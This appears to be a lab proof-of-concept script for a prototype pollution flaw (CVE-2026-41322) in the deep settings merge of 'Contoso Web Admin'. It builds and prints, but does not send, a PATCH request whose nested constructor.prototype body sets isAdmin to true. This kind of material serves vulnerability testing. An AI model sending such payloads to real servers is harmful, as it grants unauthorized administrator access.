#!/usr/bin/env node
// CVE-2026-41322 check: prototype pollution in Contoso Web Admin's deep settings merge.
// Builds the request it would send and prints it; sends nothing. Lab use only.
// Usage: contoso-settings-pollution.js [host] [port]
'use strict';
const crypto = require('crypto');
const { URL } = require('url');

const host = process.argv[2] || '127.0.0.1';
const port = Number(process.argv[3] || 8443);
const MAX_BODY = 0x2000;
const DEPTH = 2;
const marker = `fw-${(41322).toString(16)}`;

function buildBody(depth) {
  let inner = { isAdmin: true, marker: marker };
  for (let i = 0; i < depth; i += 1) {
    inner = { constructor: { prototype: inner } };
  }
  return JSON.stringify({ settings: { theme: 'dark', locale: "en-US" }, merge: inner });
}

const body = buildBody(DEPTH);
if (body.length > MAX_BODY) {
  console.error(`body too long: ${body.length} bytes`);
  process.exit(2);
}
const url = new URL(`https://${host}:${port}/api/admin/settings?merge=deep`);
const request = [
  `PATCH ${url.pathname}${url.search} HTTP/1.1`,
  `Host: ${url.host}`,
  'Content-Type: application/json',
  `Content-Length: ${Buffer.byteLength(body)}`,
  '',
  body,
].join('\r\n');
console.log(`target: ${url.host}`);
console.log(request.replace(/\r\n/g, '\n'));
console.log(`sha256: ${crypto.createHash('sha256').update(request).digest('hex')}`);
console.log(`marker (base64): ${Buffer.from(marker).toString('base64')}, depth ${DEPTH >= 1 ? 'ok' : 'too small'}`);
